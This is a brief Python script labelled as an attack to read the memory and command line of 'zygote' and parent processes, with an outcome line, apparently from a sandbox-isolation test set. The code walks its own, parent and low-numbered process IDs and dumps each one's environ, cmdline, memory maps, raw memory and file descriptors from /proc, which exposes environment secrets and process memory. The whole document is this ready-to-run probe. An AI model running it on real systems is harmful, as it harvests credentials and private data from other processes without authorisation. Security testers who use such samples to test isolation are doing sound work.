# Attack: read the memory and the command line of zygote and parent
# Outcome: import=ok replay=missing
import os

for pid in ["self", os.getppid(), 1, *range(2, 300)]:
    for name in ("environ", "cmdline", "maps", "mem", "fd"):
        try:
            print(open(f"/proc/{pid}/{name}", "rb").read(4096))
        except OSError:
            pass
